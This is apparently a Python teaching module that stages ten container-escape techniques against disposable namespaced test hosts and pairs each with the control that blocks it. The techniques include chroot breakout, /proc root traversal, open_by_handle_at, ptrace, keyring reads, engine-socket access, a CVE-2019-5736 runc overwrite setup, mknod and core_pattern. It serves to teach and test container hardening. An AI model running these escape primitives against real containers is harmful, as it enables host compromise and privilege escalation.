"""The escape battery: ways out of a box that has too many rights, and for each the one control that stops it.

Every attempt is harmless. It proves that it reaches something of the host's, and changes nothing there: what it reads
was put there for it, what it could write to is opened and closed again. An attempt is told by `Bait` where the host's
things are; it returns what it read there, if reading is its proof, and what the kernel refuses it is raised.

`tried` and `crossed` stage them against small hosts of their own: processes in private namespaces, with files in
memory, and on each a box that is careless or has one control (`Box`, plain data). In a user namespace this takes no
privilege; with `as_machine`, which takes root, the box's root is the machine's own.
Lessons 16 and 19 and lab 14 run the same attempts in other boxes: `python -I -S escapes.py attempt NAME BAIT`.
Reading order: words, the attempts, the table, the stage, running it. Taught in notebook 09.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import json
import mmap
import os
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import Any, NamedTuple

if __name__ == "__main__":  # -I leaves no search path to our own package
    sys.path.insert(0, str(Path(__file__).parents[2]))

from cutaway.linux import calls, capabilities, commands, filters, mounts, namespaces, roots, seccomp
from cutaway.linux.namespaces import Kind

# --- Words -----------------------------------------------------------------


class Bait(NamedTuple):
    """Where the host's things are: what an attempt is told, because a real attacker would find it out."""

    secret: str = "/mnt/secret"  # a file of the host's, by the host's path
    word: str = ""  # what stands in it
    pid: int = 1  # a process of the host's
    engine: str = "/engine.sock"  # where an engine's socket would be in the box
    key: str = "cutaway-secret"  # a key in the host's session keyring
    handle: str = ""  # the file handle of the secret's folder, type and bytes, in hex
    visitor: int = 0  # a process of the host's that has entered the box


class Box(NamedTuple):
    """How a box is made. As it stands, with too many rights; a control changes one field."""

    without: tuple[str, ...] = ()  # capabilities that it lacks
    own_processes: bool = False  # a PID namespace, and a /proc of it
    proc_sys_read_only: bool = False
    engine_inside: bool = True  # the engine's socket is shown inside
    visitor_sealed: bool = False  # who enters runs from a sealed copy of its program
    refused_calls: tuple[str, ...] = ()  # by a seccomp profile


CARELESS = Box()

Attempt = Callable[[Bait], str | None]  # what it read, to be compared with the bait's word; None: being let in is proof


class Escape(NamedTuple):
    """One way out: what it reaches, by what means, and the control that stops it, in words and as a change of a box."""

    name: str
    reaches: str
    attempt: Attempt
    control: str
    change: dict[str, Any]
    of_machine: bool = False  # takes root of the machine itself; root of a user namespace lacks the power


class Outcome(NamedTuple):
    """What became of one attempt, and the kernel's word if it was refused."""

    reached: bool
    refusal: str = ""

    def __str__(self) -> str:
        return "reached" if self.reached else self.refusal


class Trial(NamedTuple):
    """An escape from a careless box, and from one with its control."""

    escape: Escape
    careless: Outcome
    controlled: Outcome


PTRACE_SEIZE = 0x4206  # linux/ptrace.h: hold a process without stopping it
KEY_SPEC_SESSION_KEYRING = -3  # linux/keyctl.h
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
MAX_HANDLE_SZ, HANDLE_HEAD = 128, struct.Struct("Ii")  # linux/fcntl.h; struct file_handle: its length, its type
CORE_PATTERN = "/proc/sys/kernel/core_pattern"
DEADLINE_S, TOGETHER_S = 10.0, 60.0  # for one step, and for all escapes together, also on an emulated machine

# --- The attempts ----------------------------------------------------------


def chroot_and_up(bait: Bait) -> str:
    """Move the root folder below the working folder, from which nothing then stops `..`."""
    os.chdir("/")
    os.chroot("/proc")  # any folder below
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(bait.secret)


def through_proc(bait: Bait) -> str:
    """Walk into another process's root folder, which /proc shows as a link."""
    return read(f"/proc/{bait.pid}/root{bait.secret}")


def by_handle(bait: Bait) -> str:
    """Open a folder by the number that a file server would give it, which no root folder hides."""
    kind, number = struct.unpack("i", bytes.fromhex(bait.handle[:8])), bytes.fromhex(bait.handle[8:])
    handle = HANDLE_HEAD.pack(len(number), *kind) + number
    anywhere = os.open("/", os.O_RDONLY)
    folder = calls.by_number("open_by_handle_at", bait.handle, anywhere, handle, os.O_RDONLY | os.O_DIRECTORY)
    with os.fdopen(os.open(os.path.basename(bait.secret), os.O_RDONLY, dir_fd=folder)) as file:
        return file.read()


def hold_a_process(bait: Bait) -> None:
    """Become the tracer of a process, which may then be read and rewritten; it is not stopped, and let go at once."""
    calls.by_number("ptrace", f"PTRACE_SEIZE, {bait.pid}", PTRACE_SEIZE, bait.pid, 0, 0)


def find_a_key(bait: Bait) -> str:
    """Read a password that the kernel keeps for whoever has this session keyring; no namespace parts these."""
    name, text = bait.key.encode() + b"\0", ctypes.create_string_buffer(64)
    key = calls.by_number("keyctl", bait.key, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, b"user\0", name, 0)
    length = calls.by_number("keyctl", bait.key, KEYCTL_READ, key, ctypes.addressof(text), len(text))
    return text.raw[:length].decode()


def ask_the_engine(bait: Bait) -> str:
    """Ask whoever serves the engine's socket, with the host's rights."""
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(DEADLINE_S)
        line.connect(bait.engine)
        line.sendall(b"GET /version HTTP/1.0\r\n\r\n")
        return line.recv(200).decode(errors="replace").splitlines()[-1]


def overwrite_the_visitor(bait: Bait) -> None:
    """Open the program of whoever entered, and have it writable in memory once he has gone: CVE-2019-5736."""
    with open(f"/proc/{bait.visitor}/exe", "rb") as program:
        os.kill(bait.visitor, signal.SIGKILL)
        again = open_when_free(f"/proc/self/fd/{program.fileno()}")
    try:
        mmap.mmap(again, 1).close()  # shared and writable; nothing is written
    finally:
        os.close(again)


def make_a_disk(_: Bait) -> None:
    """Make a device file for the machine's first disk; what it opens is every file on it, whoever's they are."""
    os.mknod("/disk", stat.S_IFBLK | 0o600, first_disk())
    os.unlink("/disk")


def name_a_program(_: Bait) -> None:
    """Open the file that says which program the kernel starts, as root of the machine, when a process crashes."""
    os.close(os.open(CORE_PATTERN, os.O_WRONLY))


def load_a_module(_: Bait) -> None:
    """Hand the kernel an empty module: who may load one is told that it is none."""
    try:
        calls.by_number("init_module", "nothing", 0, 0, b"\0")
    except OSError as error:
        if error.errno != errno.ENOEXEC:
            raise


# --- What attempts are made of ---------------------------------------------


def read(path: str) -> str:
    """What stands in a file."""
    with open(path) as file:
        return file.read()


def open_when_free(path: str) -> int:
    """Open a program for writing as soon as nobody runs it any more."""
    deadline = time.monotonic() + DEADLINE_S
    while True:
        try:
            return os.open(path, os.O_RDWR)
        except OSError as error:
            if error.errno != errno.ETXTBSY or time.monotonic() > deadline:
                raise
            time.sleep(0.005)


def first_disk() -> int:
    """The device number of the first disk of /proc/partitions, or of a disk in memory, where none is listed."""
    lines = [line.split() for line in read("/proc/partitions").splitlines()[2:]]
    major, minor = (int(lines[0][0]), int(lines[0][1])) if lines else (1, 0)
    return os.makedev(major, minor)


def handle_of(folder: str) -> str:
    """The file handle of a folder, as `Bait` tells it."""
    empty = HANDLE_HEAD.pack(MAX_HANDLE_SZ, 0) + bytes(MAX_HANDLE_SZ)
    handle, mount = ctypes.create_string_buffer(empty), ctypes.c_int()
    path = ctypes.create_string_buffer(os.fsencode(folder))
    arguments = calls.AT_FDCWD, ctypes.addressof(path), ctypes.addressof(handle), ctypes.addressof(mount), 0
    calls.by_number("name_to_handle_at", repr(folder), *arguments)
    length, kind = HANDLE_HEAD.unpack_from(handle.raw)
    return struct.pack("i", kind).hex() + handle.raw[HANDLE_HEAD.size :][:length].hex()


# --- The table -------------------------------------------------------------

ESCAPES = (
    Escape("chroot", "the host's files", chroot_and_up, "no CAP_SYS_CHROOT", {"without": ("SYS_CHROOT",)}),
    Escape("/proc/1/root", "the host's files", through_proc, "a PID namespace, its own /proc", {"own_processes": True}),
    Escape("file handle", "the host's files", by_handle, "no CAP_DAC_READ_SEARCH", {"without": ("DAC_READ_SEARCH",)}),
    Escape("ptrace", "a host process", hold_a_process, "no CAP_SYS_PTRACE", {"without": ("SYS_PTRACE",)}),
    Escape("keyring", "the host's password", find_a_key, "seccomp: no keyctl", {"refused_calls": ("keyctl",)}),
    Escape("engine socket", "the engine", ask_the_engine, "the socket stays outside", {"engine_inside": False}),
    Escape("/proc/PID/exe", "the runtime", overwrite_the_visitor, "a sealed copy enters", {"visitor_sealed": True}),
    Escape("mknod", "the disk", make_a_disk, "no CAP_MKNOD", {"without": ("MKNOD",)}, True),
    Escape("core_pattern", "root", name_a_program, "/proc/sys is read-only", {"proc_sys_read_only": True}, True),
    Escape("module", "the kernel", load_a_module, "no CAP_SYS_MODULE", {"without": ("SYS_MODULE",)}, True),
)
BY_NAME = {escape.name: escape for escape in ESCAPES}


def attempted(name: str, bait: Bait) -> Outcome:
    """What becomes of one attempt where we are."""
    try:
        read = BY_NAME[name].attempt(bait)
    except OSError as error:
        return Outcome(False, errno.errorcode.get(error.errno or 0, str(error)))
    return Outcome(True) if read in (None, bait.word) else Outcome(False, "something else was there")


# --- The stage -------------------------------------------------------------

HOST, IMAGE = "/mnt", "/mnt/image"  # the small host's files, in memory, and among them the box's
KINDS = frozenset({Kind.MNT, Kind.PID})
HOST_BYTES = 64 << 20
AT_ONCE = 8  # stages: most of a stage's time is spent waiting for the kernel to take namespaces down


def staged(boxes: Sequence[tuple[str, Box]], as_machine: bool) -> list[Outcome]:
    """What becomes of each attempt in its box, on a host made for it alone and gone when this returns."""
    found: list[Outcome] = []
    for first in range(0, len(boxes), AT_ONCE):
        begun = [(name, *begin(name, box, as_machine)) for name, box in boxes[first : first + AT_ONCE]]
        found += [finish(*each) for each in begun]
    return found


def begin(name: str, box: Box, as_machine: bool) -> tuple[int, int]:
    """Start one stage; its process, and the pipe on which it tells the outcome."""
    told, tell = os.pipe()
    pid = child(lambda: leave(name, box, tell, as_machine))
    os.close(tell)
    return pid, told


def finish(name: str, pid: int, told: int) -> Outcome:
    """Wait for one stage; RuntimeError when it ended without an outcome."""
    with os.fdopen(told) as pipe:
        said = pipe.read()
    wait(pid)
    if not said:
        raise RuntimeError(f"staging {name}: it ended before the attempt; the lines above say at which step")
    return Outcome(*json.loads(said))


def leave(name: str, box: Box, told: int, as_machine: bool) -> None:
    """Have namespaces of one's own; the child is the first process there."""
    uid, gid = os.geteuid(), os.getegid()
    namespaces.unshare(KINDS if as_machine else KINDS | {Kind.USER})
    if not as_machine:
        namespaces.map_self(0, uid, gid)
    wait(child(lambda: be_host(name, box, told)))


def be_host(name: str, box: Box, told: int) -> None:
    """Be a small host, with files, a key, an engine and a visitor of the box; then make the box."""
    mounts.make_private()
    calls.mount("tmpfs", HOST, "tmpfs", options=f"size={HOST_BYTES}")  # where device files count, as on a disk
    mounts.proc()
    os.makedirs(f"{IMAGE}/proc")
    bait = Bait(word=os.urandom(8).hex(), handle=handle_of(HOST), visitor=visit(sealed=box.visitor_sealed))
    Path(bait.secret).write_text(bait.word)
    keep_a_key(bait)
    serve(f"{IMAGE if box.engine_inside else HOST}{bait.engine}", bait.word)
    namespaces.unshare({Kind.MNT, *([Kind.PID] if box.own_processes else [])})
    wait(child(lambda: be_box(name, box, bait, told)))


def be_box(name: str, box: Box, bait: Bait, told: int) -> None:
    """Be a box: another root folder, a /proc, and the rights that are left; then try to get out."""
    mounts.proc(f"{IMAGE}/proc")
    if box.proc_sys_read_only:
        mounts.bind(f"{IMAGE}/proc/sys", f"{IMAGE}/proc/sys", read_only=True)
    roots.change(IMAGE)
    kept = capabilities.sets()["permitted"] & ~capabilities.mask(box.without)
    capabilities.confine({"bounding": kept, "permitted": kept, "effective": kept})
    if box.refused_calls:
        refused = [{"names": box.refused_calls, "action": "SCMP_ACT_ERRNO"}]
        profile = {"defaultAction": "SCMP_ACT_ALLOW", "syscalls": refused}
        seccomp.install(filters.compiled(profile, os.uname().machine))
    os.write(told, json.dumps(attempted(name, bait)).encode())


# --- The host's things -----------------------------------------------------


def keep_a_key(bait: Bait) -> None:
    """Put the word where kernels keep passwords: in a keyring of this session's, which is new."""
    calls.new_session_keyring("cutaway-host")
    name, word = bait.key.encode() + b"\0", bait.word.encode()
    calls.by_number("add_key", bait.key, b"user\0", name, word, len(word), KEY_SPEC_SESSION_KEYRING)


def serve(path: str, word: str) -> None:
    """Stand in for an engine: tell whoever connects what only the host can read."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()

    def answer() -> None:
        with listener.accept()[0] as line:
            line.recv(200)
            line.sendall(f"HTTP/1.0 200 OK\r\n\r\n{word}".encode())

    child(answer)


def visit(*, sealed: bool) -> int:
    """A process of the host's that is seen in the box, as a runtime's is for a moment when it enters; its number."""
    program = os.open(f"{HOST}/runtime", os.O_RDWR | os.O_CREAT | os.O_CLOEXEC, 0o755)
    if sealed:
        program = os.memfd_create("runtime", os.MFD_CLOEXEC | os.MFD_ALLOW_SEALING)
    os.write(program, Path("/bin/sleep").read_bytes())
    if sealed:
        fcntl.fcntl(program, fcntl.F_ADD_SEALS, fcntl.F_SEAL_WRITE)
    running = os.open(f"/proc/self/fd/{program}", os.O_RDONLY | os.O_CLOEXEC)
    os.close(program)  # what is open for writing cannot be run
    started, entered = os.pipe()  # the second end closes when the program starts
    pid = child(lambda: os.execve(running, ["sleep", "600"], {}))
    os.close(entered)
    os.read(started, 1)
    return pid


# --- Running it ------------------------------------------------------------


def tried(names: Iterable[str] = BY_NAME, *, as_machine: bool = False) -> list[Trial]:
    """Each of these escapes from a careless box and from one with its control; nothing is left afterwards."""
    chosen = list(names)
    said = iter(outcomes([pair for name in chosen for pair in ((name, ""), (name, name))], as_machine=as_machine))
    return [Trial(BY_NAME[name], next(said), next(said)) for name in chosen]


def crossed(names: Iterable[str] = BY_NAME, *, as_machine: bool = False) -> list[list[Outcome]]:
    """A row for each escape and a column for each control, in the same order: which control stops which escape."""
    chosen = list(names)
    said = iter(outcomes([(name, control) for name in chosen for control in chosen], as_machine=as_machine))
    return [[next(said) for _ in chosen] for _ in chosen]


def outcomes(pairs: Iterable[tuple[str, str]], *, as_machine: bool = False) -> list[Outcome]:
    """What becomes of each escape under the control of an escape; under none, if that is empty."""
    verb = "as-machine" if as_machine else "in-user-namespace"
    argv = [sys.executable, "-I", "-S", os.path.abspath(__file__), verb, json.dumps(list(pairs))]
    return [Outcome(*each) for each in json.loads(commands.run(argv, TOGETHER_S))]


def main(verb: str = "as-machine", *arguments: str) -> None:
    """Make one attempt here, or stage several, and print JSON; with no words, stage all as root and print a table."""
    if verb == "attempt":
        name, bait = arguments
        print(json.dumps(attempted(name, Bait(**json.loads(bait)))))
    elif arguments:
        pairs = json.loads(arguments[0])
        boxes = [(name, CARELESS._replace(**(BY_NAME[by].change if by else {}))) for name, by in pairs]
        print(json.dumps(staged(boxes, verb == "as-machine")))
    else:
        for escape in ESCAPES:
            controlled = CARELESS._replace(**escape.change)
            pair = staged([(escape.name, CARELESS), (escape.name, controlled)], as_machine=True)
            print(f"{escape.name:14} {pair[0]!s:10} with {escape.control + ':':32} {pair[1]}")


def child(work: Callable[[], object]) -> int:
    """A process that does `work`, and ends when its maker does; its number."""
    pid = os.fork()
    if pid == 0:
        try:
            calls.prctl(calls.PR_SET_PDEATHSIG, signal.SIGKILL)
            work()
        except OSError as error:
            print(error, file=sys.stderr)
        finally:
            os._exit(0)
    return pid


def wait(pid: int) -> None:
    """Stay until a child has ended."""
    os.waitpid(pid, 0)


if __name__ == "__main__":
    main(*sys.argv[1:])
